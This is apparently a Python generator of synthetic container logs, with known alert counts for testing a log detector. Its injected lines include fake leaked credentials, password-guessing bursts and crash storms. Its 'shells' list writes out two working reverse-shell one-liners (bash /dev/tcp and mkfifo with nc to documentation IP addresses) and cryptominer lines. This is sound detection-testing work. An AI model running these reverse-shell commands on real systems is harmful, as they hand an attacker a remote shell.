#!/usr/bin/env python3
"""Generates a day of one busy container's log in the CRI format, with ground truth.

Ordinary traffic: JSON request logs, nginx-style access lines (1% answering 401: expired
sessions), controller logfmt lines, a few handled Python tracebacks an hour, Go retry warnings, lines that mention
passwords, tokens and keys without holding one. Injected, at known places: credentials printed
(CREDENTIALS lines), a password-guessing burst (BURSTS bursts of 25 failed logins in a minute),
a crash loop (CRASHES storms of 12 panics in 4 minutes), reverse shells and miner lines
(SHELLS). Prints the log on stdout and on stderr, as JSON, the alerts expected per rule after
dedup (one per pod, rule and 60 minutes from the first: how `logs detect` folds a file).

usage: gen_pod_logs.py LINES [SEED]
"""
import json
import random
import sys

lines = int(sys.argv[1])
rng = random.Random(int(sys.argv[2]) if len(sys.argv) > 2 else 7)
CREDENTIALS, BURSTS, CRASHES, SHELLS = 25, 3, 2, 4
# Injected events, spread over the day (one line per second of a 24 h day at most).
span = 86400
inject = {}
for k in range(CREDENTIALS):
    inject.setdefault(rng.randrange(lines), []).append(("cred", k))
for k in range(BURSTS):
    inject.setdefault(int(lines * (k + 1) / (BURSTS + 2)), []).append(("burst", k))
for k in range(CRASHES):
    inject.setdefault(int(lines * (k + 1.5) / (CRASHES + 2)), []).append(("crash", k))
for k in range(SHELLS):
    inject.setdefault(rng.randrange(lines), []).append(("shell", k))

paths = ["/api/products/%d", "/api/cart", "/healthz", "/api/users/%d/orders", "/static/app.%d.js"]
creds = [
    "using GitHub token ghp_%s" % "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789") for _ in range(36)),
    json.dumps({"level": "debug", "msg": "db config", "password": "S3cure-%06d" % rng.randrange(10**6)}),
    "DATABASE_URL=postgres://app:Pg-%08x@db:5432/app" % rng.getrandbits(32),
    "aws_access_key_id=AKIA%s" % "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(16)),
    "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.%s" % "".join(rng.choice("abcdefghij_-") for _ in range(20)),
]
shells = [
    "+ bash -c 'bash -i >& /dev/tcp/203.0.113.%d/4444 0>&1'",
    "[2026-11-30 10:21:00.512]  net      use pool stratum+tcp://pool.minexmr.example:%d",
    "+ rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.%d 4242 >/tmp/f",
    " * VERSIONS     XMRig/6.21.0 libuv/1.44.2 gcc/11.2.0 pid %d",
]


def ts(sec):
    sec = min(sec, span - 1)
    return "2026-11-30T%02d:%02d:%02d.%09dZ" % (sec // 3600, sec // 60 % 60, sec % 60, rng.randrange(10**9))


def ordinary():
    r = rng.random()
    if r < 0.45:
        return json.dumps({"level": "info", "msg": "request completed", "method": rng.choice(["GET", "POST"]),
                           "path": rng.choice(paths).replace("%d", str(rng.randint(1, 9999))),
                           "status": rng.choice([200, 200, 200, 201, 404, 500]), "durationMs": rng.randint(1, 900),
                           "traceId": "%032x" % rng.getrandbits(128)})
    if r < 0.75:
        status = 401 if rng.random() < 0.01 else 200
        return '10.244.%d.%d - - [30/Nov/2026:10:00:00 +0000] "GET /api/products/%d HTTP/1.1" %d %d "-" "Mozilla/5.0"' % (
            rng.randint(0, 3), rng.randint(2, 250), rng.randint(1, 999), status, rng.randint(100, 90000))
    if r < 0.97:
        return 'time="2026-11-30T10:00:00Z" level=info msg="reconciling object" controller=deployment namespace=shop name=web-%d reconcileID=%08x' % (
            rng.randint(0, 9), rng.getrandbits(32))
    if rng.random() < 0.002:
        # A handled exception logged with its trace: a few an hour.
        return "Traceback (most recent call last):"
    return rng.choice([
        'level=warn msg="retrying after panic: recovered" attempt=2',
        "password reset email sent to user %d" % rng.randint(1, 10**6),
        'level=info msg="token refreshed" expiresIn=3600 keyId=%08x' % rng.getrandbits(32),
        'level=info msg="rotating secret" secretName=db-credentials',
        "readiness: exec 3<>/dev/tcp/127.0.0.1/5432 ok",
        "GET /healthz 200",
    ])




def alerts(times, period=3600):
    """Alerts after dedup over a file: one per key (here, the one pod) and period (60 min)."""
    n, first = 0, None
    for t in sorted(times):
        if first is None or t - first >= period:
            n, first = n + 1, t
    return n


def seconds(kind):
    return [i * span // lines for i, evs in inject.items() for e in evs if e[0] == kind]


expected = {"pod_log_credential": alerts(seconds("cred")), "pod_log_auth_failure_burst": alerts(seconds("burst")),
            "pod_log_crash_storm": alerts(seconds("crash")), "pod_log_reverse_shell_or_miner": alerts(seconds("shell"))}
out = sys.stdout
for i in range(lines):
    sec = i * span // lines
    for kind, k in inject.get(i, []):
        if kind == "cred":
            out.write("%s stdout F %s\n" % (ts(sec), creds[k % len(creds)]))
        elif kind == "shell":
            out.write("%s stdout F %s\n" % (ts(sec), shells[k % len(shells)] % rng.randint(2, 250)))
        elif kind == "burst":
            for j in range(25):
                out.write('%s stderr F FATAL:  password authentication failed for user "postgres"\n' % ts(sec + j * 2))
        elif kind == "crash":
            for j in range(12):
                out.write("%s stderr F panic: runtime error: index out of range [3] with length 3\n" % ts(sec + j * 20))
                out.write("%s stderr F goroutine 1 [running]:\n" % ts(sec + j * 20))
    out.write("%s stdout F %s\n" % (ts(sec), ordinary()))
json.dump(expected, sys.stderr)
sys.stderr.write("\n")
